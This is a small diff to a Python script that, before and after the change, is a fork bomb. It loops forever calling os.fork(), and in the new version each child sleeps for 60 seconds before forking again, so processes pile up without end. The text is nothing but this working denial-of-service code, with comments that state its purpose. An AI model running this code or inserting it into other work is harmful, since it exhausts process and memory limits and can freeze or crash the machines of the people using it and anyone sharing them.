@@ -1,4 +1,7 @@
-# Forks without end; every child does the same.
+# Starts processes without end; each stays.
 import os
+import time
+
 while True:
-    os.fork()
+    if os.fork() == 0:
+        time.sleep(60)
